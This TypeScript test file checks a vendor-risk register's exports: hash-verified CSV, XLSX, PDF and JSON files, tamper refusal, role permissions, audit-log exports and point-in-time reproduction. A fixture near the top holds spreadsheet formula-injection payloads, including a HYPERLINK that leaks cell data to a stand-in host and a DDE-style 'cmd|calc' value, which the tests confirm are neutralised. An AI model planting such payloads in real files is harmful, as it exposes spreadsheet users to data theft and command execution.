/**
 * Auditor exports against real servers: manifests whose SHA-256 matches the bytes served, formula-safe CSV and
 * XLSX, a PDF report with its manifest in the metadata, tamper detection, the filtered audit log and its export,
 * roles, bad input, background exports, the JSON round trip through a restore into an empty database, and
 * point-in-time exports that reproduce an export taken on an earlier day.
 */
import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { chmodSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import Papa from 'papaparse'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  addDays,
  AuditLogExport,
  AuditLogResponse,
  CSV_BOM,
  DEFAULT_WEIGHTS,
  ExportListResponse,
  ExportManifest,
  FullExport,
  MODEL_VERSION,
  REGISTER_HEADERS,
  RestoreResponse,
  VendorListResponse,
  type ScoringWeights,
} from '../../src/domain'
import { hashEntry } from '../audit/hash-chain'
import { openSqliteStore } from '../db/sqlite-store'
import { createExportService } from '../services/export-service'
import { createVendorService } from '../services/vendor-service'
import { ApiClient, signedIn, signedInAs } from '../testing/api-client'
import {
  createVendor,
  daysFromToday,
  expectJson,
  expectProblem,
  fetchVendor,
  incidentInput,
  today,
  vendorInput,
} from '../testing/api-fixtures'
import { startServer, TEST_PASSWORDS, type ServerProcess } from '../testing/server-process'

const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex')
const hasTool = (tool: string) => {
  try {
    execFileSync(tool, ['-v'], { stdio: 'ignore' })
    return true
  } catch {
    return false
  }
}

async function requestExport(client: ApiClient, body: unknown): Promise<ExportManifest> {
  return ExportManifest.parse(await expectJson(await client.post('/api/exports', body), 201))
}

/** Polls the manifest until the export is done (or failed), as the UI will. */
async function finished(client: ApiClient, id: string): Promise<ExportManifest> {
  for (let i = 0; i < 300; i++) {
    const manifest = ExportManifest.parse(await client.json(`/api/exports/${id}`))
    if (manifest.status === 'done' || manifest.status === 'failed') return manifest
    await new Promise((resolve) => setTimeout(resolve, 100))
  }
  throw new Error(`export ${id} did not finish`)
}

async function download(client: ApiClient, manifest: ExportManifest) {
  const response = await client.get(`/api/exports/${manifest.id}/file`)
  expect(response.status, await response.clone().text()).toBe(200)
  return { response, bytes: new Uint8Array(await response.arrayBuffer()) }
}

const csvRows = (bytes: Uint8Array) => {
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)
  expect(text.startsWith(CSV_BOM)).toBe(true)
  return Papa.parse<Record<string, string>>(text.slice(1), {
    header: true,
    newline: '\r\n',
    skipEmptyLines: true,
  }).data
}

describe('exports on a server with the demo register', () => {
  let server: ServerProcess
  let auditor: ApiClient
  let procurement: ApiClient
  let ciso: ApiClient
  let hostileId: string

  beforeAll(async () => {
    server = await startServer()
    ;[auditor, procurement, ciso] = await signedInAs(server.url, 'auditor', 'procurement', 'ciso')
    hostileId = (
      await createVendor(procurement, '=HYPERLINK("http://evil.example/?leak="&A1,"Open") Москва', {
        owner: '@SUM(1+1)*cmd|calc',
        category: '+Payroll, "quoted", and\nsplit',
      })
    ).vendor.id
  }, 30_000)
  afterAll(async () => {
    await server?.stop()
  })

  it('exports the register as CSV: 201 with a done manifest whose SHA-256 and Repr-Digest match the bytes served', async () => {
    const manifest = await requestExport(auditor, { format: 'csv' })
    expect(manifest).toMatchObject({
      kind: 'register',
      format: 'csv',
      asOf: today(),
      createdBy: 'auditor',
      status: 'done',
      modelVersion: MODEL_VERSION,
      modelRevision: 0,
      filename: `vendor-register-${today()}.csv`,
      error: null,
    })
    expect(manifest.auditHead).toMatch(/^[0-9a-f]{64}$/)

    const { response, bytes } = await download(auditor, manifest)
    expect(sha256(bytes)).toBe(manifest.sha256)
    expect(bytes.length).toBe(manifest.bytes)
    const digest = Buffer.from(manifest.sha256!, 'hex').toString('base64')
    expect(response.headers.get('repr-digest')).toBe(`sha-256=:${digest}:`)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('content-disposition')).toBe(
      `attachment; filename="vendor-register-${today()}.csv"`,
    )

    const rows = csvRows(bytes)
    expect(Object.keys(rows[0]!)).toEqual(REGISTER_HEADERS)
    expect(rows).toHaveLength(manifest.rows!)
    expect(await auditor.json(`/api/exports/${manifest.id}`)).toEqual(manifest)
  })

  it('writes every export to the audit log as export.create with its manifest', async () => {
    const manifest = await requestExport(auditor, { format: 'json' })
    const log = AuditLogResponse.parse(
      await auditor.json(`/api/audit-log?action=export.create&entityId=${manifest.id}`),
    )
    expect(log.items).toHaveLength(1)
    expect(log.items[0]).toMatchObject({ actor: 'auditor', entityType: 'export', after: manifest })
    // The export reflects the log up to its head, which precedes its own entry.
    expect(log.items[0]!.seq).toBeGreaterThan(manifest.auditSeq)
  })

  it('lists exports newest first', async () => {
    const first = await requestExport(auditor, { format: 'csv' })
    const second = await requestExport(ciso, { format: 'json' })
    const { items } = ExportListResponse.parse(await auditor.json('/api/exports'))
    expect(items.slice(0, 2).map((m) => m.id)).toEqual([second.id, first.id])
  })

  it('states in the CSV what the live inventory shows today, vendor by vendor', async () => {
    const manifest = await requestExport(auditor, { format: 'csv' })
    const rows = csvRows((await download(auditor, manifest)).bytes)
    const live = VendorListResponse.parse(await auditor.json('/api/vendors?limit=50000'))
    expect(rows).toHaveLength(live.total)
    const byId = new Map(rows.map((r) => [r.vendor_id, r]))
    for (const v of live.items) {
      const row = byId.get(v.id)!
      expect({ id: v.id, score: Number(row.score), tier: row.tier, status: row.status }).toEqual({
        id: v.id,
        score: v.score,
        tier: v.tier,
        status: v.status,
      })
    }
    // The register's order is the inventory's: highest score first.
    expect(rows.map((r) => r.vendor_id)).toEqual(
      VendorListResponse.parse(await auditor.json('/api/vendors?limit=50000&sort=score')).items.map(
        (v) => v.id,
      ),
    )
  })

  it('neutralises formulas in the CSV while keeping quotes, commas, line breaks and Cyrillic intact', async () => {
    const rows = csvRows((await download(auditor, await requestExport(auditor, { format: 'csv' }))).bytes)
    const row = rows.find((r) => r.vendor_id === hostileId)!
    expect(row.name).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"Open") Москва`)
    expect(row.owner).toBe("'@SUM(1+1)*cmd|calc")
    expect(row.category).toBe('\'+Payroll, "quoted", and\nsplit')
    for (const r of rows) {
      for (const value of Object.values(r)) {
        if (/^-?\d+(\.\d+)?$/.test(value)) continue
        expect(value, `${r.vendor_id}: ${value}`).not.toMatch(/^[\s]*[=+\-@\t\r]/)
      }
    }
  })

  it('writes XLSX cells as strings, never formulas, with the same neutralisation', async () => {
    const manifest = await requestExport(auditor, { format: 'xlsx' })
    expect(manifest.status).toBe('done')
    const { bytes } = await download(auditor, manifest)
    expect(sha256(bytes)).toBe(manifest.sha256)
    const { default: ExcelJS } = await import('exceljs')
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(Buffer.from(bytes) as unknown as Parameters<typeof workbook.xlsx.load>[0])
    const sheet = workbook.getWorksheet('Register')!
    expect(sheet.rowCount).toBe(manifest.rows! + 1)
    let found = false
    sheet.eachRow((row, n) => {
      if (n === 1) return
      row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula))
      if (row.getCell(1).value === hostileId) {
        found = true
        expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String)
        expect(row.getCell(2).value).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"Open") Москва`)
        expect(row.getCell(4).value).toBe("'@SUM(1+1)*cmd|calc")
        expect(typeof row.getCell(6).value).toBe('number')
      }
    })
    expect(found).toBe(true)
    expect(workbook.getWorksheet('About')!.getCell('B2').value).toBe(manifest.id)
  })

  it('stores the file read-only and refuses to serve it once it was changed on disk', async () => {
    const manifest = await requestExport(auditor, { format: 'csv' })
    const file = path.join(server.dataDir, 'exports', `${manifest.id}.csv`)
    expect(statSync(file).mode & 0o222).toBe(0)
    chmodSync(file, 0o644)
    writeFileSync(file, `${CSV_BOM}vendor_id,name\r\nven-forged,Nothing to see\r\n`)
    const problem = await expectProblem(await auditor.get(`/api/exports/${manifest.id}/file`), 410, {
      title: 'Export file altered',
    })
    expect(problem.detail).toContain(manifest.sha256!)
    // The manifest is untouched and the failed check is itself on the record.
    expect(await auditor.json(`/api/exports/${manifest.id}`)).toEqual(manifest)
    const log = AuditLogResponse.parse(
      await auditor.json(`/api/audit-log?action=export.verify_failed&entityId=${manifest.id}`),
    )
    expect(log.items).toHaveLength(1)
  })

  it('renders the PDF risk report: %PDF, more than 3 pages, the manifest in its metadata, the cover facts in its text', async () => {
    const manifest = await requestExport(auditor, { format: 'pdf' })
    expect(manifest).toMatchObject({ status: 'done', filename: `vendor-risk-report-${today()}.pdf` })
    const { response, bytes } = await download(auditor, manifest)
    expect(response.headers.get('content-type')).toBe('application/pdf')
    expect(sha256(bytes)).toBe(manifest.sha256)
    const raw = Buffer.from(bytes).toString('latin1')
    expect(raw.startsWith('%PDF-')).toBe(true)
    const pages = raw.match(/\/Type \/Page\b(?!s)/g)?.length ?? 0
    expect(pages).toBeGreaterThan(3)

    // pdfkit writes each information entry as an indirect string object: follow the reference.
    const ref = /\/VendorRiskManifest (\d+) 0 R/.exec(raw)?.[1]
    expect(ref).toBeDefined()
    const embedded = new RegExp(`\\n${ref} 0 obj\\n\\((.*)\\)\\nendobj`).exec(raw)?.[1]
    expect(embedded).toBeDefined()
    expect(JSON.parse(embedded!.replace(/\\([()\\])/g, '$1'))).toMatchObject({
      id: manifest.id,
      asOf: manifest.asOf,
      rows: manifest.rows,
      auditHead: manifest.auditHead,
      modelVersion: MODEL_VERSION,
      modelRevision: manifest.modelRevision,
      createdBy: 'auditor',
    })
    expect(raw).toContain(`asOf=${manifest.asOf}`)
  })

  it.skipIf(!hasTool('pdftotext'))(
    'puts scope, as-of date, author and model version on the PDF cover (pdftotext)',
    async () => {
      const manifest = await requestExport(auditor, { format: 'pdf' })
      const file = path.join(mkdtempSync(path.join(tmpdir(), 'vendor-risk-pdf-')), 'report.pdf')
      try {
        writeFileSync(file, (await download(auditor, manifest)).bytes)
        const cover = execFileSync('pdftotext', ['-f', '1', '-l', '1', file, '-'], {
          encoding: 'utf8',
        }).replace(/\s+/g, ' ')
        expect(cover).toContain('Vendor risk report')
        expect(cover).toContain(`end of ${today()}`)
        expect(cover).toContain(`${manifest.rows} vendors`)
        expect(cover).toContain('auditor on')
        expect(cover).toContain(`Version ${MODEL_VERSION}`)
        expect(cover).toContain(manifest.id)
        const all = execFileSync('pdftotext', [file, '-'], { encoding: 'utf8' })
        for (const section of [
          'Executive summary',
          'Tier distribution',
          'Likelihood × exposure',
          'Methodology',
        ])
          expect(all).toContain(section)
        expect(all).toMatch(/Page 2 of \d+/)
        const info = execFileSync('pdfinfo', ['-custom', file], { encoding: 'utf8' })
        expect(info).toContain(`"id":"${manifest.id}"`)
      } finally {
        rmSync(path.dirname(file), { recursive: true, force: true })
      }
    },
  )

  it('refuses bad input with a problem naming the field', async () => {
    await expectProblem(await auditor.post('/api/exports', { format: 'docx' }), 422, { paths: ['format'] })
    await expectProblem(await auditor.post('/api/exports', {}), 422, { paths: ['format'] })
    await expectProblem(await auditor.post('/api/exports', { format: 'csv', asOf: '2026-02-30' }), 422, {
      paths: ['asOf'],
    })
    await expectProblem(await auditor.post('/api/exports', { format: 'csv', asOf: '26/11/2026' }), 422, {
      paths: ['asOf'],
    })
    await expectProblem(await auditor.post('/api/exports', { format: 'csv', asOf: daysFromToday(1) }), 422, {
      paths: ['asOf'],
    })
    await expectProblem(await auditor.post('/api/exports', { format: 'csv', scope: 'all' }), 422, {
      paths: ['scope'],
    })
    await expectProblem(await auditor.get('/api/exports/exp-does-not-exist'), 404, {
      title: 'Export not found',
    })
    await expectProblem(await auditor.get('/api/audit-log/export?format=xml'), 400, { paths: ['format'] })
    await expectProblem(await auditor.get('/api/audit-log?from=2026-02-30'), 400, { paths: ['from'] })
    await expectProblem(await auditor.get('/api/audit-log?from=2026-05-02&to=2026-05-01'), 400, {
      paths: ['to'],
    })
  })

  it('lets procurement read the audit log but not export it or the register (403)', async () => {
    expect((await procurement.get('/api/audit-log')).status).toBe(200)
    for (const response of [
      await procurement.post('/api/exports', { format: 'csv' }),
      await procurement.get('/api/exports'),
      await procurement.get('/api/audit-log/export?format=csv'),
    ]) {
      const problem = await expectProblem(response, 403, { title: 'Not allowed for your role' })
      expect(problem.detail).toContain('auditor')
    }
  })

  it('lets the auditor export but still write nothing else (403 on every POST, PATCH, PUT and DELETE)', async () => {
    const { etag } = await fetchVendor(auditor, hostileId)
    const writes = [
      () => auditor.post('/api/vendors', vendorInput('Auditor vendor')),
      () =>
        auditor.patch(`/api/vendors/${hostileId}`, { owner: 'Auditor' }, { headers: { 'if-match': etag } }),
      () => auditor.delete(`/api/vendors/${hostileId}`),
      () => auditor.post(`/api/vendors/${hostileId}/incidents`, incidentInput()),
      () => auditor.post(`/api/vendors/${hostileId}/reviews`, { completedAt: today() }),
      () => auditor.put(`/api/vendors/${hostileId}/risk-acceptance`, { note: 'no', until: daysFromToday(9) }),
      () => auditor.put('/api/scoring/model', { weights: DEFAULT_WEIGHTS, revision: 0 }),
      () =>
        auditor.post('/api/users', { username: 'x-auditor', password: 'a-long-password-1', role: 'admin' }),
      () =>
        auditor.post('/api/imports?dryRun=0', undefined, {
          body: 'name\n',
          headers: { 'content-type': 'text/csv' },
        }),
      () => auditor.post('/api/exports/restore', {}),
    ]
    for (const write of writes)
      await expectProblem(await write(), 403, { title: 'Not allowed for your role' })
    expect((await auditor.post('/api/exports', { format: 'csv' })).status).toBe(201)
  })

  it('filters the audit log by user, action, vendor and day range', async () => {
    const { vendor } = await createVendor(procurement, 'Audit Filter Co')
    const { etag } = await fetchVendor(procurement, vendor.id)
    await expectJson(
      await procurement.patch(
        `/api/vendors/${vendor.id}`,
        { owner: 'Filter Owner' },
        { headers: { 'if-match': etag } },
      ),
      200,
    )
    const q = (query: string) =>
      auditor.json(`/api/audit-log?${query}`).then((b) => AuditLogResponse.parse(b).items)
    const mine = await q(`actor=procurement&entityId=${vendor.id}&from=${today()}&to=${today()}`)
    expect(mine.map((e) => e.action)).toEqual(['vendor.update', 'vendor.create'])
    expect(await q(`actor=procurement&entityId=${vendor.id}&action=vendor.update`)).toHaveLength(1)
    expect(await q(`actor=auditor&entityId=${vendor.id}`)).toHaveLength(0)
    expect(await q(`entityId=${vendor.id}&to=${addDays(today(), -1)}`)).toHaveLength(0)
    expect(await q(`entityId=${vendor.id}&from=${addDays(today(), 1)}`)).toHaveLength(0)
  })

  it('exports the filtered audit log as CSV and JSON, oldest first, each entry still matching its hash', async () => {
    const { vendor } = await createVendor(procurement, 'Audit Export Co')
    await expectJson(
      await procurement.post(`/api/vendors/${vendor.id}/incidents`, incidentInput({ severity: 'low' })),
      201,
    )
    const filter = `entityId=${vendor.id}&from=${today()}&to=${today()}`
    const csv = await auditor.get(`/api/audit-log/export?format=csv&${filter}`)
    expect(csv.status).toBe(200)
    expect(csv.headers.get('content-disposition')).toBe(`attachment; filename="audit-log-${today()}.csv"`)
    const csvBytes = new Uint8Array(await csv.arrayBuffer())
    const digest = Buffer.from(sha256(csvBytes), 'hex').toString('base64')
    expect(csv.headers.get('repr-digest')).toBe(`sha-256=:${digest}:`)
    const rows = csvRows(csvBytes)
    expect(rows.map((r) => r.action)).toEqual(['vendor.create'])
    expect(JSON.parse(rows[0]!.after!)).toMatchObject({ id: vendor.id, name: 'Audit Export Co' })

    const json = await auditor.get(`/api/audit-log/export?format=json&actor=procurement&${filter}`)
    const body = AuditLogExport.parse(JSON.parse(new TextDecoder().decode(await json.arrayBuffer())))
    expect(body.entries.map((e) => e.action)).toEqual(['vendor.create'])
    for (const entry of body.entries) expect(hashEntry(entry, entry.prevHash)).toBe(entry.hash)
    const all = AuditLogExport.parse(
      JSON.parse(
        new TextDecoder().decode(
          await (await auditor.get('/api/audit-log/export?format=json')).arrayBuffer(),
        ),
      ),
    )
    // Unfiltered, the entries form the chain itself, up to the head the export started from.
    all.entries.forEach((entry, i) => {
      expect(entry.seq).toBe(i + 1)
      if (i > 0) expect(entry.prevHash).toBe(all.entries[i - 1]!.hash)
    })
    expect(all.entries.at(-1)!.hash).toBe(all.auditHead)

    // Each audit-log export is an export too: listed, manifest in the log, file verifiable.
    const id = json.headers.get('x-export-id')!
    const manifest = ExportManifest.parse(await auditor.json(`/api/exports/${id}`))
    expect(manifest).toMatchObject({ kind: 'audit-log', format: 'json', rows: 1, status: 'done' })
    expect(manifest.filters).toMatchObject({ actor: 'procurement', entityId: vendor.id })
    const logged = AuditLogResponse.parse(
      await auditor.json(`/api/audit-log?action=export.create&entityId=${id}`),
    )
    expect(logged.items[0]!.after).toMatchObject({ sha256: manifest.sha256 })
  })
})

describe('the full JSON export round trip and background exports', () => {
  let source: ServerProcess
  let target: ServerProcess

  beforeAll(async () => {
    ;[source, target] = await Promise.all([
      startServer(),
      startServer({ DEMO_DATA: '0', EXPORT_SYNC_VENDORS: '0' }),
    ])
  }, 60_000)
  afterAll(async () => {
    await Promise.all([source?.stop(), target?.stop()])
  })

  it('restores an export into an empty database and exports it again byte for byte', async () => {
    const [ciso, auditor] = await Promise.all([signedIn(source.url, 'ciso'), signedIn(source.url, 'auditor')])
    // Give the source a changed model and a risk acceptance, so both must survive the trip.
    const model = await ciso.json<{ weights: ScoringWeights; revision: number }>('/api/scoring/model')
    const weights = { ...model.weights, incidentHalfLifeDays: 540 }
    await expectJson(await ciso.put('/api/scoring/model', { weights, revision: model.revision }), 200)
    const some = VendorListResponse.parse(await auditor.json('/api/vendors?limit=1')).items[0]!
    await expectJson(
      await ciso.put(`/api/vendors/${some.id}/risk-acceptance`, {
        note: 'Migration planned',
        until: daysFromToday(60),
      }),
      200,
    )

    const exported = await requestExport(auditor, { format: 'json', asOf: today() })
    const { bytes } = await download(auditor, exported)
    const doc = FullExport.parse(JSON.parse(new TextDecoder().decode(bytes)))
    expect(doc.vendors).toHaveLength(exported.rows!)
    expect(doc.scoringModel.weights).toEqual(weights)
    expect(doc.vendors.find((v) => v.vendor.id === some.id)!.riskAcceptance).toMatchObject({
      acceptedBy: 'ciso',
    })

    const admin = new ApiClient(target.url)
    expect((await admin.signIn('admin', TEST_PASSWORDS.admin)).status).toBe(204)
    const restore = (body: Uint8Array | string, query = '') =>
      admin.request('POST', `/api/exports/restore${query}`, {
        body: typeof body === 'string' ? body : Buffer.from(body),
        headers: { 'content-type': 'application/json' },
      })

    // Refused: a hash that does not match, a score edited by hand, text that is not JSON.
    await expectProblem(await restore(bytes, `?sha256=${'0'.repeat(64)}`), 422, { paths: ['sha256'] })
    const edited = JSON.parse(new TextDecoder().decode(bytes)) as { vendors: { score: { score: number } }[] }
    edited.vendors[3]!.score.score = 1
    await expectProblem(await restore(JSON.stringify(edited)), 422, { paths: ['vendors.3.score'] })
    await expectProblem(await restore('{"format":'), 400, { title: 'Malformed JSON' })
    expect(VendorListResponse.parse(await admin.json('/api/vendors?limit=1')).total).toBe(0)

    const restored = RestoreResponse.parse(
      await expectJson(await restore(bytes, `?sha256=${exported.sha256}`), 201),
    )
    expect(restored).toMatchObject({
      vendors: doc.vendors.length,
      riskAcceptances: 1,
      sha256: exported.sha256,
    })
    expect(restored.modelRevision).toBe(1)

    // The target answers in the background (EXPORT_SYNC_VENDORS=0): pending first, then done.
    const again = await requestExport(admin, { format: 'json', asOf: today() })
    expect(['pending', 'running']).toContain(again.status)
    const done = await finished(admin, again.id)
    expect(done.status).toBe('done')
    const second = await download(admin, done)
    expect(done.sha256).toBe(exported.sha256)
    expect(Buffer.from(second.bytes).equals(Buffer.from(bytes))).toBe(true)

    // A second restore would mix two registers: refused.
    await expectProblem(await restore(bytes), 409, { title: 'Database not empty' })
  })

  it('answers 409 for the file of an export still in progress, then serves it once done', async () => {
    const admin = await signedIn(target.url, 'admin')
    const pending = await requestExport(admin, { format: 'pdf' })
    expect(pending.sha256).toBeNull()
    await expectProblem(await admin.get(`/api/exports/${pending.id}/file`), 409, {
      title: 'Export not ready',
    })
    const done = await finished(admin, pending.id)
    expect(done).toMatchObject({ status: 'done', rows: pending.rows ?? done.rows })
    const { bytes } = await download(admin, done)
    expect(sha256(bytes)).toBe(done.sha256)
  })
})

describe('point-in-time exports', () => {
  const day = daysFromToday(-10)
  const at = (d: string, time = '12:00:00') => new Date(`${d}T${time}Z`)
  let dataDir: string
  let server: ServerProcess | undefined
  let then: { csv: Uint8Array; json: Uint8Array; csvManifest: ExportManifest; jsonManifest: ExportManifest }
  const ids: Record<'alpha' | 'beta' | 'gamma', string> = { alpha: '', beta: '', gamma: '' }

  beforeAll(async () => {
    dataDir = mkdtempSync(path.join(tmpdir(), 'vendor-risk-pit-'))
    // Build the history in-process with a clock we control, and export on `day` itself: "an export taken then".
    let clock = at(addDays(day, -5))
    const now = () => clock
    const store = openSqliteStore(dataDir, { now })
    const vendors = createVendorService(store, now)
    await vendors.init()
    const actor = { username: 'history' }
    const make = async (name: string) =>
      (await vendors.create(vendorInput(name, { incidents: [] }), actor)).vendor.id
    ids.alpha = await make('PIT Alpha')
    ids.beta = await make('PIT Beta')
    ids.gamma = await make('PIT Gamma')
    await vendors.addIncident(
      ids.alpha,
      incidentInput({ occurredAt: addDays(day, -5), status: 'contained' }),
      actor,
    )
    await vendors.putModel({ ...DEFAULT_WEIGHTS, incidentHalfLifeDays: 500 }, 0, actor)

    clock = at(day, '20:00:00')
    await vendors.update(ids.beta, { owner: 'Owner on the day' }, '*', actor)
    await vendors.acceptRisk(ids.gamma, { note: 'Accepted on the day', until: addDays(day, 40) }, actor)
    const exportsThen = createExportService({ store, vendors, dataDir, now })
    clock = at(day, '23:00:00')
    const csvManifest = await exportsThen.create({ format: 'csv' }, { username: 'auditor-then' })
    const jsonManifest = await exportsThen.create({ format: 'json' }, { username: 'auditor-then' })
    const read = (m: ExportManifest) => new Uint8Array(readFileSync(exportsThen.filePath(m)))
    then = { csv: read(csvManifest), json: read(jsonManifest), csvManifest, jsonManifest }

    // The next days change everything the register shows.
    clock = at(addDays(day, 1))
    await vendors.update(ids.alpha, { access: { records: 9_000_000 }, name: 'PIT Alpha Renamed' }, '*', actor)
    await vendors.addIncident(
      ids.beta,
      incidentInput({ occurredAt: addDays(day, 1), severity: 'critical' }),
      actor,
    )
    await vendors.revokeRisk(ids.gamma, actor)
    await vendors.archive(ids.gamma, actor)
    await vendors.addReview(ids.alpha, { completedAt: addDays(day, 1), notes: '' }, actor)
    await vendors.create(vendorInput('PIT Delta, created later', { incidents: [] }), actor)
    await vendors.putModel({ ...DEFAULT_WEIGHTS, incidentHalfLifeDays: 120 }, 1, actor)
    store.close()

    server = await startServer({ DATA_DIR: dataDir, DEMO_DATA: '0' })
  }, 60_000)
  afterAll(async () => {
    await server?.stop()
    rmSync(dataDir, { recursive: true, force: true })
  })

  it('reproduces, byte for byte, the CSV and JSON exports taken at the end of that day', async () => {
    const admin = await signedIn(server!.url, 'admin')
    // Today's changes through the API must not leak into the past either.
    const { etag } = await fetchVendor(admin, ids.beta)
    await expectJson(
      await admin.patch(
        `/api/vendors/${ids.beta}`,
        { owner: 'Owner today' },
        { headers: { 'if-match': etag } },
      ),
      200,
    )
    await expectJson(await admin.post(`/api/vendors/${ids.alpha}/incidents`, incidentInput()), 201)

    for (const [format, before, bytes] of [
      ['csv', then.csvManifest, then.csv],
      ['json', then.jsonManifest, then.json],
    ] as const) {
      const now = await requestExport(admin, { format, asOf: day })
      expect(now).toMatchObject({ asOf: day, rows: 3, modelRevision: 1, status: 'done' })
      expect(before).toMatchObject({ asOf: day, rows: 3, modelRevision: 1, status: 'done' })
      expect(now.auditSeq).toBeGreaterThan(before.auditSeq)
      const { bytes: again } = await download(admin, now)
      expect(new TextDecoder().decode(again)).toBe(new TextDecoder().decode(bytes))
      expect(now.sha256).toBe(before.sha256)
    }
  })

  it('shows the day as it was: old names and owners, the acceptance then in force, the weights then', async () => {
    const admin = await signedIn(server!.url, 'admin')
    const doc = FullExport.parse(
      JSON.parse(
        new TextDecoder().decode(
          (await download(admin, await requestExport(admin, { format: 'json', asOf: day }))).bytes,
        ),
      ),
    )
    const byId = new Map(doc.vendors.map((v) => [v.vendor.id, v]))
    expect(byId.get(ids.alpha)!.vendor).toMatchObject({ name: 'PIT Alpha', access: { records: 250_000 } })
    expect(byId.get(ids.alpha)!.vendor.incidents).toHaveLength(1)
    expect(byId.get(ids.beta)!.vendor).toMatchObject({ owner: 'Owner on the day', incidents: [] })
    expect(byId.get(ids.gamma)!.vendor.status).toBe('active')
    expect(byId.get(ids.gamma)!.riskAcceptance).toMatchObject({ note: 'Accepted on the day' })
    expect(doc.scoringModel.weights.incidentHalfLifeDays).toBe(500)

    // Today's register differs, so the comparison above could fail.
    const today_ = FullExport.parse(
      JSON.parse(
        new TextDecoder().decode(
          (await download(admin, await requestExport(admin, { format: 'json' }))).bytes,
        ),
      ),
    )
    expect(today_.vendors).toHaveLength(4)
    expect(today_.scoringModel.weights.incidentHalfLifeDays).toBe(120)
    expect(today_.vendors.find((v) => v.vendor.id === ids.gamma)!.vendor.status).toBe('offboarded')
  })

  it('exports an empty register for a day before any vendor existed', async () => {
    const admin = await signedIn(server!.url, 'admin')
    const manifest = await requestExport(admin, { format: 'csv', asOf: addDays(day, -6) })
    expect(manifest).toMatchObject({ rows: 0, modelRevision: 0 })
    expect(csvRows((await download(admin, manifest)).bytes)).toEqual([])
  })
})
